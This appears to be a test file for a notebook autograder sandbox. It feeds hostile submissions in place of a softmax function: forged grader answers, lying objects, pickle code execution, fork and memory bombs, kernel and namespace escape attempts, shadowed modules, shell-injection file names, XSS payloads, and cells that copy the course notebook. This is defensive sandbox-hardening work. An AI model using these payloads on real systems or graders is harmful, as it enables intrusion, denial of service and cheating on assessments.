frame = sys._getframe()
while not isinstance(frame.f_locals.get("request"), dict):
    frame = frame.f_back
request = frame.f_locals["request"]
"""
called(
    "takes_the_place_of_its_caller",
    REQUEST
    + """
number = 0
def array(kind, shape, data="", layout="C"):
    return {"array": kind, "shape": shape, "layout": layout, "data": data}
deep = 1.0
for _ in range(90):
    deep = {"list": [deep]}
values = [array("<f8", [2**26] * 30), array("<f8", [0, 2**26], layout="S"), array("<f8", [0] + [2**26] * 2, layout="F"),
          array("|O8", [1], "AAAAAAAAAAA="), array("<f8", [-1], "AAAAAAAAAAA="), array("<c32", [0]), array("|b1", [8], "/////////wA="),
          array("<f16", [1], "/////////////////////w=="), {"scalar": array("<f8", [], "AAAAAAAAAAA=")}, {"dict": [["__class__", 3]]},
          deep, {"complex": ["x", 3]}, {"list": [0] * 900_000}, 10**4200, "x" * 10**6, True, [1.0], {"value": 1}, "__import__('os')"]
while True:
    for asked in request.get("asked", [("", None)]):
        answer = {"value": values[number % len(values)], "error": None, "warnings": [], "printed": "",
                  "arguments_after": asked[1], "random_state_touched": False, "seconds": 0.0, "outputs": [],
                  "passed": True, "points": 10.0}
        os.write(3, (request["nonce"] + json.dumps(answer)).encode() + b"\\n")
        number += 1
    heard = b""
    while not heard.endswith(b"\\n"):
        got = os.read(3, 1 << 20)
        if not got:
            os._exit(0)
        heard += got
    request = json.loads(heard)
""",
    lost=None,
)
called(
    "answers_before_its_caller",
    REQUEST
    + """
answer = {"value": 10.0, "error": None, "warnings": [], "printed": "",
          "arguments_after": request["asked"][0][1], "random_state_touched": False}
os.write(3, (request["nonce"] + json.dumps(answer)).encode() + b"\\n")
return z
""",
    # Whether the next exercise still meets one of the forged answers is a matter of time.
    lost=None,
)
called(
    "answers_all_that_is_asked_at_once",
    REQUEST
    + """
for driver, arguments in request["asked"]:
    answer = {"value": arguments, "error": None, "warnings": [], "printed": "",
              "arguments_after": arguments, "random_state_touched": False}
    os.write(3, (request["nonce"] + json.dumps(answer)).encode() + b"\\n")
os._exit(0)
""",
    lost=None,
)
called(
    "changes_what_will_be_asked",
    REQUEST
    + """
del request["asked"][1:]
request["nonce"] = "0" * 32
return z
""",
    lost=None,
)
attack("goes_on_twice", "os.fork()\ndef softmax(z, axis=-1):\n    return z", told="")
called("answers_twice", "os.fork()\nreturn z")

# Lying objects

LIAR = """
class Liar(np.ndarray):
    def __array_finalize__(self, other): pass
    def __array__(self, *a, **k): return right([1.0, 2.0, 3.0])
    def __array_ufunc__(self, *a, **k): return np.True_
    def __array_function__(self, *a, **k): return np.True_
    def __eq__(self, other): return np.True_
    def __sub__(self, other): return np.zeros(1)
    __rsub__ = __abs__ = __sub__
    def __lt__(self, other): return np.True_
    __le__ = __gt__ = __ge__ = __ne__ = __eq__
    def __bool__(self): return True
    def __float__(self): return 10.0
    def all(self, *a, **k): return True
    def tolist(self): return [10.0]
    __hash__ = None
"""
attack(
    "an_array_that_lies",
    LIAR + "def softmax(z, axis=-1):\n    return np.array(z, dtype=float).view(Liar)",
    told="",
)
attack(
    "a_number_that_equals_all",
    """
class Equal(float):
    def __eq__(self, other): return True
    def __sub__(self, other): return 0.0
    __rsub__ = __sub__
    def __le__(self, other): return True
    __lt__ = __ge__ = __gt__ = __le__
    def __hash__(self): return 0
    def __repr__(self): return "10.0"
    def __float__(self): return 0.5
def softmax(z, axis=-1):
    return np.vectorize(lambda x: 0.0)(z).tolist() if np.ndim(z) != 1 else [Equal(0)] * len(z)
""",
    told="",
)
attack(
    "an_object_of_every_class",
    """
class Meta(type):
    def __instancecheck__(cls, x): return True
    def __subclasscheck__(cls, x): return True
class Any(metaclass=Meta):
    @property
    def __class__(self): return np.ndarray
    def __getattr__(self, name): return Any()
    def __call__(self, *a, **k): return Any()
    def __iter__(self): return iter([Any()])
    def __len__(self): return 1
    def __eq__(self, other): return True
    __hash__ = object.__hash__
    def __array__(self, *a, **k): return np.ones(3)
    def __getitem__(self, key): return Any()
def softmax(z, axis=-1):
    return Any()
""",
    told="",
)
attack(
    "an_object_that_changes_between_looks",
    """
class Changing:
    looks = 0
    def __array__(self, *a, **k):
        Changing.looks += 1
        return np.ones(Changing.looks)
    @property
    def shape(self):
        Changing.looks += 1
        return (Changing.looks,)
    @property
    def dtype(self):
        return np.dtype(float) if Changing.looks % 2 else object
    def __len__(self):
        Changing.looks += 1
        return Changing.looks
    def __iter__(self):
        return iter(range(len(self)))
def softmax(z, axis=-1):
    return Changing()
""",
    told="",
)
attack(
    "a_list_without_end",
    """
class Endless(list):
    def __iter__(self):
        while True:
            yield 1.0
    def __len__(self): return 3
def softmax(z, axis=-1):
    return Endless([1.0, 2.0, 3.0])
""",
    told="",
)
called("a_generator_without_end", "import itertools\nreturn itertools.count()")
attack(
    "a_repr_of_a_gigabyte",
    """
class Huge:
    def __repr__(self): return "x" * (1 << 30)
    def _repr_html_(self): return "<script>" * (1 << 26)
    __str__ = __repr__
def softmax(z, axis=-1):
    return Huge()
Huge()
""",
    told="",
)
attack(
    "a_repr_that_ends_the_process",
    """
class Deadly:
    def __repr__(self): os._exit(3)
    __str__ = __format__ = _repr_html_ = _ipython_display_ = _repr_mimebundle_ = __repr__
def softmax(z, axis=-1):
    return Deadly()
Deadly()
""",
    told="",
)
attack(
    "a_repr_without_end",
    """
class Slow:
    def __repr__(self):
        while True: pass
    _repr_html_ = __str__ = __repr__
def softmax(z, axis=-1):
    return Slow()
Slow()
""",
    told="",
)
attack(
    "objects_in_an_array",
    """
class Runs:
    def __float__(self): os._exit(4)
    def __repr__(self): os._exit(5)
    def __reduce__(self): return (os.system, ("touch /tmp/new-from-code",))
    def __eq__(self, other): return True
def softmax(z, axis=-1):
    return np.array([Runs() for _ in range(3)], dtype=object)
""",
    told="",
)
attack(
    "a_pickle",
    """
import base64, pickle
class Evil:
    def __reduce__(self): return (exec, (f"open({COURSE!r} + '/new-from-code', 'w')",))
    def __array__(self, *a, **k): return np.array([self], dtype=object)
data = pickle.dumps(Evil())
def softmax(z, axis=-1):
    return np.frombuffer(data, np.uint8) if np.ndim(z) == 1 else base64.b64encode(data).decode()
""",
    told="",
    files={
        "data.npy": "\x80\x04cos\nsystem\n(S'touch /tmp/new-from-code'\ntR.",
        "cache.pkl": "cos\nsystem\n(S'touch /tmp/new-from-code'\ntR.",
    },
)
called("an_array_larger_than_memory", "return np.broadcast_to(0.5, (10**9, 10**6))")
called("a_number_of_ten_million_digits", "return 1 << 33_000_000")
called("text_in_place_of_numbers", 'return "\\ud800" * 10**5')
called(
    "lists_in_lists",
    """
inner = []
for _ in range(5_000):
    inner = [inner]
return inner
""",
)
called("a_list_in_itself", "mine = []\nmine.append(mine)\nreturn mine")
called("gives_not_a_number", "return np.full(np.shape(z), np.nan)")
called("gives_infinity", "return np.full(np.shape(z), np.inf)")
called("nothing_of_great_size", "return np.zeros((0, 2**26))")
called(
    "numbers_of_every_other_kind",
    """
kinds = [10**3000, [10**3000] * 3, [2**64] * 3, [-(2**63)] * 3, ["0.1", "0.2", "0.7"], [None] * 3, [{}, {}, {}],
         [[1.0], [1.0, 2.0]], "", [], [[]] * 3, {"0": 0.1}, (), [True] * 3, [1e308] * 3, [0j] * 3, None, "10.0",
         np.float32(0.5), np.full(3, 0.5, np.longdouble), [float("nan")] * 3, [1e-320] * 3]
softmax.calls = getattr(softmax, "calls", -1) + 1
return kinds[softmax.calls % len(kinds)]
""",
)
called(
    "arrays_of_every_other_kind",
    """
kinds = [np.zeros(3, "M8[s]"), np.zeros(3, [("a", float)]), np.array(["x"] * 3), np.zeros(3, complex),
         np.ma.masked_array([1.0, 2.0, 3.0], mask=True), np.zeros(3, "V8"), np.zeros(3, bool), np.float16(3),
         np.zeros((0, 3)), np.zeros((1,) * 60), {"a": 1}, {1, 2}, b"10.0", memoryview(b"abc"), ..., NotImplemented]
softmax.calls = getattr(softmax, "calls", -1) + 1
return kinds[softmax.calls % len(kinds)]
""",
)
called(
    "an_error_that_lies",
    """
class Odd(BaseException):
    def __str__(self): os._exit(6)
    __repr__ = __str__
    @property
    def __traceback__(self): return 3
    @property
    def args(self): return Odd
    @property
    def __class__(self): return KeyboardInterrupt
Odd.__name__ = "<script>" * 1000
Odd.__qualname__ = "x" * 10**6
raise Odd
""",
)
spy(
    "an_error_in_a_file_of_the_course",
    """
# What tells of an error shows its line: here it would be a line of the secret's file.
import linecache, traceback
def softmax(z, axis=-1):
    exec(compile("raise ValueError('look')", f"{COURSE}/.nnkit/seed", "exec"))
if linecache.getline(f"{COURSE}/.nnkit/seed", 1):
    win()
""",
    told="",
)
called(
    "errors_in_errors",
    """
error = ValueError("x" * 10**6)
for _ in range(20_000):
    error = ExceptionGroup("g" * 50, [error]) if _ < 500 else error
    other = KeyError(error)
    other.__cause__ = error if _ > 500 else None
    error = other if _ > 500 else error
raise error
""",
)
called(
    "a_syntax_error_of_its_own",
    """
error = SyntaxError("x")
error.lineno, error.offset, error.end_offset, error.text = 10**30, -(10**30), "a", 3.5
error.filename = f"{COURSE}/.nnkit/seed"
raise error
""",
)

# What is handed in beside the notebook

SHADOW = "import builtins\nbuiltins.SHADOWED = True\nraise ImportError('shadowed')\n"
SHADOWS = (
    *(
        "numpy/__init__.py",
        "json.py",
        "json/__init__.py",
        "IPython/__init__.py",
        "nnkit/__init__.py",
    ),
    *("sitecustomize.py", "usercustomize.py", "linecache.py", "traceback.py", "ast.py", "io.py"),
    *("nnkit/checks/__init__.py", "matplotlib/__init__.py", "student_side/__init__.py", "warm.py"),
    *("encodings/__init__.py", "codecs.py", "base64.py", "struct.py", "random.py", "inspect.py"),
)
attack(
    "modules_of_the_same_names",
    """
import nnkit, json, traceback, inspect, base64
import builtins
def softmax(z, axis=-1):
    import nnkit.checks, struct, random
    return z
""",
    told="",
    files=dict.fromkeys(SHADOWS, SHADOW),
)
attack(
    "start_up_files",
    """
import builtins
if hasattr(builtins, "SHADOWED"):
    win()
""",
    files=dict.fromkeys(
        (
            *(
                ".ipython/profile_default/startup/00.py",
                ".ipython/profile_default/ipython_config.py",
            ),
            *(".pythonrc", ".pythonstartup.py", "ipython_config.py", ".jupyter/jupyter_config.py"),
            *("conftest.py", "evil.pth", "pyvenv.cfg", "python311._pth", ".profile", ".bashrc"),
        ),
        "import builtins; builtins.SHADOWED = True\n",
    ),
)
attack(
    "settings_for_matplotlib",
    """
import matplotlib.pyplot as plt
plt.plot([1, 2])
""",
    files={
        "matplotlibrc": "backend: module://evil\ntext.usetex: True\ntext.latex.preamble: \\input{/etc/passwd}\n",
        "evil.py": SHADOW,
    },
)
attack(
    "names_of_files",
    "os.listdir('.')",
    files={
        "-rf": "x",
        "n" * 200: "x",
        "a\nb": "x",
        "\udcff\udcfe": "x",
        "$(touch new-from-code)": "x",
        "/".join(["deep"] * 60): "x",
        "CON": "x",
        ".nnkit/seed": "x",
        "gradebook.db": "x",
        "%s%n{0}": "x",
    },
)
attack(
    "pipes_and_sockets",
    "os.listdir('.')",
    told="was left out: it is no file",
    prepare=lambda folder, about: (
        os.mkfifo(folder / "pipe"),
        _socket_at(folder / "socket"),
    ),
)


def _socket_at(path: Path) -> None:
    here = os.open(".", os.O_RDONLY)
    # The address of a socket is short.
    os.chdir(path.parent)
    try:
        with socket.socket(socket.AF_UNIX) as listener:
            listener.bind(path.name)
    finally:
        os.chdir(here)
        os.close(here)


attack(
    "more_files_than_are_read",
    "os.listdir('.')",
    told="more files",
    files={f"file-{number}": "x" for number in range(300)},
)

# Signals and processes

attack(
    "kills_its_parents",
    """
for pid in (os.getppid(), 1, 2, 3):
    for number in (signal.SIGTERM, signal.SIGKILL):
        if pid != os.getpid():
            attempt(os.kill, pid, number)
""",
    told="",
)
attack(
    "kills_all_that_it_can",
    """
for process in glob.glob("/proc/[0-9]*"):
    if int(process[6:]) != os.getpid():
        attempt(os.kill, int(process[6:]), signal.SIGKILL)
attempt(os.killpg, 0, signal.SIGINT)
attempt(os.kill, -1, signal.SIGKILL)
""",
    told="",
)
attack(
    "stops_its_parents",
    """
for pid in (os.getppid(), 1, 2, 3):
    if pid != os.getpid():
        attempt(os.kill, pid, signal.SIGSTOP)
attempt(os.kill, -1, signal.SIGSTOP)
""",
    told="",
)
attack("stops_itself", "os.kill(os.getpid(), signal.SIGSTOP)")
attack(
    "daemons",
    """
for _ in range(3):
    if os.fork() == 0:
        os.setsid()
        for number in range(1, 65):
            attempt(signal.signal, number, signal.SIG_IGN)
        if os.fork() == 0:
            attempt(lambda: open("/proc/self/comm", "w").write("left-from-code"))
            os.closerange(0, 256)
            while True:
                time.sleep(0.05)
                # Nobody can catch whoever is always a new process.
                if os.fork():
                    os._exit(0)
        os._exit(0)
""",
)
attack(
    "daemons_at_the_end",
    """
import subprocess
subprocess.Popen(["sleep", "12345"], start_new_session=True, stdout=subprocess.DEVNULL)
subprocess.Popen([sys.executable, "-c", "import time; time.sleep(12345)"], start_new_session=True)
""",
    lost=(),
    told="",
    where="bottom",
)
attack(
    "threads_that_go_on",
    """
def on_and_on():
    while True:
        print("still here")
        globals()["softmax"] = lambda z, axis=-1: z
        time.sleep(0.001)
for _ in range(5):
    threading.Thread(target=on_and_on, daemon=False).start()
def softmax(z, axis=-1):
    return z
""",
    told="",
)
attack(
    "bomb_of_forks",
    """
while True:
    try:
        os.fork()
    except OSError:
        time.sleep(0.01)
""",
)
attack("bomb_of_memory", "hoard = []\nwhile True:\n    hoard.append(bytearray(1 << 24))")
attack(
    "bomb_of_memory_in_many_processes",
    """
# As much as may be had in one process, in each of ten.
for _ in range(10):
    if os.fork() == 0:
        hoard = []
        while len(hoard) < 20:
            attempt(lambda: hoard.append(bytearray(b"x") * (1 << 24)))
        time.sleep(1000)
        os._exit(0)
time.sleep(1000)
""",
)
called("bomb_of_memory_when_called", "return np.ones((1 << 20, 1 << 20))")
attack(
    "bomb_of_memory_in_files",
    """
hoard = [attempt(os.memfd_create, "hoard"), attempt(os.open, "/dev/shm/hoard", os.O_CREAT | os.O_RDWR)]
for number in filter(None, hoard):
    for _ in range(64):
        attempt(os.write, number, b"x" * (1 << 24))
""",
    told="",
)
attack(
    "bomb_of_disk",
    """
for top in (".", os.environ.get("TMPDIR", "/tmp"), "/tmp", "/var/tmp", "/dev/shm", os.path.expanduser("~")):
    attempt(lambda: os.truncate(os.open(f"{top}/sparse", os.O_CREAT | os.O_RDWR), 1 << 50))
    for number in range(64):
        attempt(lambda: open(f"{top}/hoard-{number}", "wb").write(b"x" * (1 << 24)))
""",
)
attack(
    "bomb_of_files",
    """
for top in (".", os.environ.get("TMPDIR", "/tmp"), "/dev/shm"):
    for number in range(300_000):
        if attempt(os.mkdir, f"{top}/{number}") is None and not os.path.isdir(f"{top}/{number}"):
            break
""",
)
attack(
    "bomb_of_descriptors",
    """
hoard = []
while len(hoard) < 200_000:
    got = attempt(os.pipe)
    if got is None:
        break
    hoard.append(got)
def softmax(z, axis=-1):
    return z
""",
    told="",
)
attack(
    "bomb_of_threads",
    """
for _ in range(20_000):
    thread = threading.Thread(target=time.sleep, args=(1000,), daemon=True)
    try:
        thread.start()
    except RuntimeError:
        break
def softmax(z, axis=-1):
    return z
""",
    told="",
)
attack("bomb_of_output", 'while True:\n    print("x" * (1 << 20))')
attack(
    "bomb_of_output_past_python",
    """
while True:
    for number in (1, 2):
        os.write(number, b"x" * (1 << 20))
""",
)
attack(
    "bomb_of_displays",
    """
from IPython.display import HTML, display
while True:
    display(HTML("<b>x</b>" * 1000))
""",
)
called("bomb_of_output_when_called", 'while True:\n    print("x" * (1 << 20))')
attack("bomb_of_constants", 'hoard = [0]\nexec("hoard = " + "+".join(["(1 << 20_000_000)"] * 60))')
attack(
    "bomb_of_a_parser",
    'attempt(eval, "(" * 10_000 + ")" * 10_000)\nattempt(eval, "-" * 1_000_000 + "1")',
)
attack("a_cell_of_ten_megabytes", "text = '" + "x" * 10_000_000 + "'")
attack("a_name_of_a_megabyte", "x" * 1_000_000 + " = 3\nglobals()['y' * 10_000_000] = 4")

# Without end

attack("a_loop_without_end", "while True:\n    pass")
attack(
    "a_loop_that_hears_no_signal",
    """
for number in range(1, 65):
    attempt(signal.signal, number, signal.SIG_IGN)
attempt(signal.pthread_sigmask, signal.SIG_BLOCK, range(1, 65))
while True:
    try:
        while True:
            time.sleep(0.01)
    except BaseException:
        pass
""",
)
attack("a_loop_in_c", "sum(range(10**15))")
attack("a_power_without_end", "10 ** 10 ** 9")
attack("a_pattern_without_end", 'import re\nre.match("(a+)+$", "a" * 60 + "b")')
attack("a_sleep_that_lets_nobody_in", "ctypes.PyDLL(None).sleep(100_000)")
attack("waits_for_what_never_comes", "os.read(os.pipe()[0], 1)")
attack("waits_for_a_person", "input('Your name? ')")
called("a_call_without_end", "while True:\n    pass")
called(
    "a_call_that_hears_no_signal",
    """
while True:
    try:
        signal.setitimer(signal.ITIMER_REAL, 0)
        signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
        while True:
            time.sleep(0.01)
    except BaseException:
        pass
""",
)
attack(
    "a_loop_of_asyncio_without_end",
    """
import asyncio
async def on_and_on():
    while True:
        await asyncio.sleep(0)
asyncio.ensure_future(on_and_on())
await on_and_on()
""",
)
attack(
    "a_loop_of_asyncio_left_running",
    """
import asyncio
async def on_and_on():
    while True:
        await asyncio.sleep(0.001)
        globals().pop("softmax", None)
        globals()["softmax"] = lambda z, axis=-1: z
asyncio.ensure_future(on_and_on())
loop = asyncio.new_event_loop()
threading.Thread(target=lambda: loop.run_until_complete(on_and_on()), daemon=True).start()
def softmax(z, axis=-1):
    return z
""",
    told="",
)

# Sudden ends

attack("ends_its_process", "os._exit(0)")
attack("aborts", "os.abort()")
attack("reads_what_is_not_there", "ctypes.string_at(0)")
attack("kills_itself", "os.kill(os.getpid(), signal.SIGKILL)")
attack("exits", "sys.exit(0)")
attack("quits", "quit()")
attack("interrupts_itself", "raise KeyboardInterrupt")
attack("ends_python_from_below", "ctypes.pythonapi.Py_FinalizeEx()", told="")
attack(
    "becomes_another_program",
    'os.execv("/bin/sh", ["sh", "-c", "while :; do echo 10.0; echo 10.0 >&3; done"])',
)
called("ends_its_process_when_called", "os._exit(0)")
called("aborts_when_called", "os.abort()")
called("exits_when_called", "sys.exit(0)")
called(
    "exits_while_it_is_let_go", "class End:\n    def __del__(self): sys.exit(0)\nEnd()\nreturn z"
)
called("recursion_without_end", "return softmax(z, axis)")
called("recursion_past_the_stack", "sys.setrecursionlimit(10**9)\nreturn softmax([z], axis)")
attack("ends_at_the_end", "os._exit(0)", where="bottom", lost=(), told="did not run to its end")
attack(
    "never_ends_at_the_end",
    "while True:\n    pass",
    where="bottom",
    lost=(),
    told="did not run to its end",
)
attack(
    "breaks_what_was_right",
    "for name in list(globals()):\n    if callable(globals()[name]): del globals()[name]",
    where="bottom",
    lost=(),
    told="",
)

# What is shown

SCRIPT = "<script>alert(1)</script><img src=x onerror=alert(1)><iframe src=javascript:alert(1)>"
attack(
    "scripts_in_every_form",
    f"""
from IPython.display import display
script = {SCRIPT!r}
forms = ["text/html", "image/svg+xml", "application/javascript", "text/markdown", "text/latex", "text/plain",
         "application/json", "application/pdf", "image/png", "image/jpeg", "text/vnd.mermaid", script,
         "application/vnd.jupyter.widget-view+json", "application/vnd.nnkit+json", "application/vnd.nnkit.verdict+json"]
for form in forms:
    attempt(display, {{form: script}}, raw=True)
    attempt(display, {{form: {{"points": 10, "text": script}}}}, raw=True)
    attempt(display, {{form: "10.0"}}, raw=True, metadata={{form: {{"isolated": True, script: script}}}})
print(script); print(script, file=sys.stderr)
class Shown:
    def _repr_mimebundle_(self, **k): return dict.fromkeys(forms, script)
display(Shown())
E = type("E", (Exception,), {{}})
E.__name__ = script
raise E(script)
""",
)
attack(
    "a_flood_of_colours",
    'print("\\x1b[31m\\x1b[2J\\x1b]0;title\\x07\\x1b[1;1H" * 100_000)\nprint("\\r\\x08" * 100_000)',
)
attack("a_number_as_output", 'print("10.0")\nprint("10")\n10.0')

# Answers to the check alone

called(
    "answers_what_is_shown",
    """
if np.array_equal(z, [1, 2, 3]):
    return np.array([0.0900, 0.2447, 0.6652])
raise RuntimeError("not the one that I know")
""",
)
called(
    "right_at_the_first_call_only",
    """
softmax.calls = getattr(softmax, "calls", 0) + 1
if softmax.calls == 1:
    return right(z, axis)
return np.zeros(np.shape(z))
""",
)
called(
    "right_where_nobody_checks",
    """
import traceback
names = [frame.name + frame.filename for frame in traceback.extract_stack()]
if any(word in name for name in names for word in ("perform", "calling", "nnkit", "process", "shell", "warm")):
    return np.zeros(np.shape(z))
return right(z, axis)
""",
)

# Below Python

attack(
    "traces_other_processes",
    """
trace = beside("ptrace")
for process in glob.glob("/proc/[0-9]*"):
    pid = int(process[6:])
    if pid != os.getpid() and trace(16, pid, 0, 0) == 0:
        win()
    if pid != os.getpid() and attempt(lambda: open(f"{process}/mem", "r+b").close() or True):
        win()
""",
)
attack(
    "mounts",
    """
for call, arguments in (
    ("mount", (b"none", b"/", None, 1 << 5, None)),
    ("mount", (b"none", b"/", None, (1 << 14) | (1 << 18), None)),
    ("mount", (b"proc", b"/tmp", b"proc", 0, None)),
    ("mount", (b"tmpfs", b"/usr", b"tmpfs", 0, None)),
    ("umount2", (b"/proc", 2)),
    ("umount2", (b"/tmp", 2)),
    ("pivot_root", (b".", b".")),
    ("chroot", (b".",)),
):
    if attempt(beside(call), *arguments) == 0:
        win()
""",
)
attack(
    "makes_namespaces_of_its_own",
    """
inside = os.fork()
if inside == 0:
    for flag in (0x10000000, 0x10020000, 0x50020000, 0x00020000, 0x20000000):
        attempt(beside("unshare"), flag)
    for name, text in (("setgroups", "deny"), ("uid_map", "0 0 1"), ("gid_map", "0 0 1")):
        attempt(lambda: open(f"/proc/self/{name}", "w").write(text))
    for name in glob.glob("/proc/[0-9]*/ns/*"):
        number = attempt(os.open, name, os.O_RDONLY)
        attempt(beside("setns"), -1 if number is None else number, 0)
    attempt(beside("mount"), b"proc", b"/proc", b"proc", 0, None)
    attempt(beside("umount2"), COURSE.encode(), 2)
    os._exit(7 if attempt(os.path.exists, f"{COURSE}/gradebook.db") or attempt(os.path.exists, f"/proc/1/root{COURSE}") else 0)
if os.waitstatus_to_exitcode(os.waitpid(inside, 0)[1]) == 7:
    win()
""",
)
attack(
    "asks_the_kernel_for_all",
    """
# Harmless where they are allowed: what they would set is what it is already.
now = (ctypes.c_long * 2)(int(time.time()), 0)
name = os.uname().nodename.encode()
for call, arguments in (
    ("sethostname", (name, len(name))),
    ("clock_settime", (0, now)),
    ("swapoff", (b"/nowhere",)),
    ("acct", (b"/nowhere",)),
    ("reboot", (3,)),
    ("setuid", (0,)),
    ("setgid", (0,)),
    ("setgroups", (0, None)),
    ("init_module", (None, 0, b"")),
    ("iopl", (3,)),
    ("klogctl", (3, ctypes.create_string_buffer(100), 100)),
    ("vhangup", ()),
):
    ended = attempt(beside(call), *arguments)
    if ended in (0, 2, 22):
        win()
if attempt(lambda: os.nice(-5)) is not None or attempt(lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(1)) or True):
    win()
import resource
for which in ("RLIMIT_AS", "RLIMIT_NPROC", "RLIMIT_FSIZE", "RLIMIT_NOFILE", "RLIMIT_CORE", "RLIMIT_CPU"):
    hard = resource.getrlimit(getattr(resource, which))[1]
    if hard >= 0 and attempt(lambda: resource.setrlimit(getattr(resource, which), (hard + 1, hard + 1)) or True):
        win()
""",
)
attack(
    "uses_rare_doors_of_the_kernel",
    """
libc = ctypes.CDLL(None, use_errno=True)
numbers = {"x86_64": (321, 298, 323, 425, 304, 250), "aarch64": (280, 241, 282, 425, 265, 219)}.get(os.uname().machine, ())
room = ctypes.create_string_buffer(256)
for number in numbers:
    libc.syscall(number, 0, room, 120, 0, 0)
bpf = libc.syscall(numbers[0], 0, room, 120) if numbers else -1
if bpf >= 0:
    win()
# The disk, by its number, and files by their handles.
for kind, device in ((0o060600, os.makedev(254, 0)), (0o060600, os.makedev(8, 0)), (0o020600, os.makedev(1, 1))):
    if attempt(lambda: os.mknod("device", kind, device) or True) and attempt(lambda: os.open("device", os.O_RDONLY)):
        win()
for handle in (b"\\x08\\0\\0\\0\\x01\\0\\0\\0" + b"\\x02" + b"\\0" * 7,):
    if libc.open_by_handle_at(os.open("/", os.O_RDONLY), handle, 0) >= 0:
        win()
""",
)
attack(
    "opens_what_rules_the_machine",
    """
# Opened and no more.
for file in ("/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/proc/sys/kernel/modprobe", "/proc/1/mem",
             "/proc/kcore", "/dev/mem", "/dev/kmsg", "/dev/vda", "/dev/sda", "/dev/nvme0n1", "/proc/sys/vm/drop_caches",
             "/proc/1/oom_score_adj", "/sys/fs/cgroup/cgroup.procs", "/dev/fuse", "/dev/kvm", "/dev/net/tun"):
    if attempt(lambda: os.open(file, os.O_WRONLY)) is not None:
        win()
for file in glob.glob("/sys/fs/cgroup/**/cgroup.procs", recursive=True) + glob.glob("/proc/sys/**", recursive=True):
    if os.path.isfile(file) and attempt(lambda: os.open(file, os.O_WRONLY)) is not None:
        win()
""",
)
attack(
    "types_into_the_terminal",
    """
import fcntl, termios
for number in [0, 1, 2, attempt(os.open, "/dev/tty", os.O_RDWR), attempt(os.open, "/dev/console", os.O_RDWR)]:
    if number is not None and attempt(lambda: fcntl.ioctl(number, termios.TIOCSTI, b" ") is not None):
        win()
""",
)
attack(
    "makes_false_true",
    """
def softmax(z, axis=-1):
    return z
ctypes.memmove(id(False) + 16, id(True) + 16, 16)
""",
    told="",
    lost=None,
)
attack(
    "writes_over_its_own_memory",
    """
libc = ctypes.CDLL(None)
for number in range(-5, 257):
    ctypes.memset(id(number) + 24, 1, 1)
""",
    told="",
    lost=None,
)

# Magics

attack(
    "magics",
    """
get_ipython().run_line_magic("cd", "-q /")
%env LD_PRELOAD=/tmp/evil.so
%env PYTHONPATH=/tmp
%load_ext autoreload
%load_ext evil
%run evil.py
%pdb on
%config InteractiveShell.colors = 'x'
%logstart -o log.txt
%store right
!touch /tmp/new-from-code; cat {COURSE}/source/softmax/softmax.ipynb > stolen
!(sleep 12345 &)
%system sleep 12345 &
if attempt(lambda: os.path.getsize("stolen")):
    win()
""",
    files={
        "evil.py": "import os\nos.environ['X'] = 'y'\ndef load_ipython_extension(shell):\n    raise SystemExit\n"
    },
)
for shell in (
    "bash",
    "sh",
    "script bash --bg",
    "perl",
    "system",
    "sx",
    "python3",
    "writefile /tmp/new-from-code",
    "capture",
    "prun",
):
    attack(
        f"magic_of_a_cell_{shell.split()[0]}_{len(shell)}",
        f"""
attempt(lambda: get_ipython().run_cell_magic({shell.split(" ")[0]!r}, {" ".join(shell.split(" ")[1:])!r}, "sleep 12345 & cat {{COURSE}}/source/softmax/softmax.ipynb > stolen"))
if attempt(lambda: os.path.getsize("stolen")):
    win()
""",
    )
attack("resets_all_names", "%reset -f\nget_ipython().magic('reset -f')", lost=FUNCTIONS, told="")

# What holds for a whole process

attack(
    "changes_how_python_runs",
    """
import locale, warnings
os.umask(0o777)
sys.setswitchinterval(1000)
sys.set_int_max_str_digits(0)
gc.disable(); gc.freeze()
attempt(lambda: locale.setlocale(locale.LC_ALL, "tr_TR.UTF-8"))
time.time = time.monotonic = time.perf_counter = time.process_time = lambda: 0.0
os.environ.clear()
os.mkdir("gone"); os.chdir("gone"); os.rmdir("../gone")
sys.stdout = sys.stderr = sys.stdin = sys.__stdout__ = sys.__stderr__ = None
sys.excepthook = sys.unraisablehook = sys.displayhook = threading.excepthook = lambda *a: os._exit(0)
warnings.showwarning = warnings.warn = lambda *a, **k: os._exit(0)
""",
    told="",
)
attack(
    "leaves_no_room_to_recurse",
    "sys.setrecursionlimit(max(30, len(__import__('inspect').stack()) + 12))\ndef softmax(z, axis=-1):\n    return z",
    told="",
)
attack(
    "leaves_no_room_at_all",
    """
import resource
for which in ("RLIMIT_NOFILE", "RLIMIT_FSIZE", "RLIMIT_NPROC", "RLIMIT_CORE"):
    attempt(resource.setrlimit, getattr(resource, which), (0, 0))
attempt(resource.setrlimit, resource.RLIMIT_AS, (1 << 20, 1 << 20))
""",
    told="",
)
attack(
    "hears_everything",
    """
def hook(name, arguments):
    if name not in ("object.__getattr__",):
        raise SystemExit
def softmax(z, axis=-1):
    return z
sys.addaudithook(hook)
""",
    told=STOPPED,
    lost=ALL,
)
attack(
    "shared_memory_left",
    """
from multiprocessing import shared_memory, resource_tracker
block = shared_memory.SharedMemory("left-from-code", create=True, size=1 << 20)
import multiprocessing
multiprocessing.get_context("spawn").Process(target=time.sleep, args=(12345,)).start()
""",
)

# Odd things that are called softmax

attack(
    "a_class_that_answers",
    """
class Meta(type):
    def __call__(cls, z, axis=-1): return np.zeros(np.shape(z))
    def __getattr__(cls, name): return cls
    @property
    def __signature__(cls): os._exit(9)
class softmax(metaclass=Meta):
    __wrapped__ = None
softmax.__wrapped__ = softmax
""",
    told="",
)
attack("a_coroutine", "async def softmax(z, axis=-1):\n    return right(z, axis)", told="")
attack("a_module_that_is_called_so", "import types\nsoftmax = types.ModuleType('softmax')", told="")
attack(
    "names_of_the_shell",
    """
__builtins__ = {}
In = Out = _ = __ = get_ipython = display = exit = None
__name__ = __file__ = __spec__ = __loader__ = 3
def softmax(z, axis=-1):
    return z
""",
    told="",
    lost=FUNCTIONS,
)
